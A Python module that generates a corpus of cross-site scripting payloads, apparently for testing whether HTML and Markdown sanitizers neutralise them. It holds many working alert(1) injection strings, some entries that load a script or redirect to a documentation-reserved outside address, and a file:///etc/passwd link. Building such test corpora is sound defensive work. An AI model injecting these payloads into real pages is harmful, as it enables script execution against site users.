"""Texts that run something when a page is careless with them; each calls `alert`, `prompt` or `fetch`, or loads from elsewhere."""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

RUN = "alert(1)"
ELSEWHERE = "http://203.0.113.7/x"  # an address set aside for documents (RFC 5737)

_EVENTS = {
    "img src=x": ("onerror", "onload"),
    "svg": ("onload", "onclick"),
    "body": ("onload", "onpageshow", "onresize"),
    "iframe": ("onload",),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "details open": ("ontoggle",),
    "input autofocus": ("onfocus", "onblur"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "marquee": ("onstart", "onfinish"),
    "a href=# autofocus tabindex=1": ("onfocus", "onclick", "onmouseover", "onpointerenter"),
    "div style=animation-name:x": ("onanimationstart", "onwheel", "oncopy"),
    "object data=x": ("onerror",),
    "embed src=x": ("onload",),
    "link rel=stylesheet href=x": ("onload", "onerror"),
    "style": ("onload",),
    "form": ("onsubmit", "onreset"),
    "math": ("onclick",),
    "p": ("onbeforematch", "ondrag"),
}
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:alert(1)", "file:///etc/passwd", "//203.0.113.7/x", ELSEWHERE,
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script >",
    f"<script src={ELSEWHERE}></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>/*", "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=data:,alert(1) /></svg>", "<math><mtext><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<style>@import 'http://203.0.113.7/x';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">", "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<base href=//203.0.113.7/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=http://203.0.113.7/x'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<isindex action=javascript:alert(1) type=image>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover value=alert(1)>", "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1) />#x>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=1?><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "'\"--></style></script><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{{ 7*7 }}{% raw %}", "\u2028alert(1)\u2029",
    "</script><script>alert(1)</script>", "\\\"};alert(1);//", "';alert(1);'", "\x00<img src=x onerror=alert(1)>", "<img src=x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=x\tonerror=alert(1)>", "<img src='x'onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
    "<x contenteditable autofocus onfocus=alert(1) tabindex=1>", "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=al\\u0065rt(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "＜script＞alert(1)＜/script＞",
)  # fmt: skip


def _corpus() -> list[str]:
    tags = [f"<{tag} {event}={RUN}>" for tag, events in _EVENTS.items() for event in events]
    quoted = [f'<{tag} {event}="{RUN}">x</{tag.split()[0]}>' for tag, events in _EVENTS.items() for event in events]
    links = [
        shape.format(scheme)
        for scheme, shape in product(_SCHEMES, ("[x]({})", "![x]({})", "<a href='{}'>x</a>", "<{}>", "[x]: {}\n\n[x]"))
    ]
    markdown = [
        f"```{payload}\nx\n```" for payload in ('"><img src=x onerror=alert(1)>', "x' onclick=alert(1) '")
    ] + [
        "[a](x \"onerror=alert(1)\")", "[a](x '\"><img src=x onerror=alert(1)>')", "![a\"onerror=alert(1)](x)", "| <img src=x onerror=alert(1)> |\n|-|\n| x |",
        "> <img src=x onerror=alert(1)>", "1. <script>alert(1)</script>", "`<img src=x onerror=alert(1)>`", "# <svg onload=alert(1)>",
        "[<img src=x onerror=alert(1)>](x)", "**<b onmouseover=alert(1)>x</b>**", "a  \n<svg/onload=alert(1)>", "\\<img src=x onerror=alert(1)>",
    ]  # fmt: skip
    encoded = [quote(_SCRIPTS[0]), escape(_SCRIPTS[0]), _SCRIPTS[0].encode("utf-16-be").decode("latin-1")]
    return list(dict.fromkeys([*tags, *quoted, *links, *markdown, *_SCRIPTS, *encoded]))


PAYLOADS = _corpus()
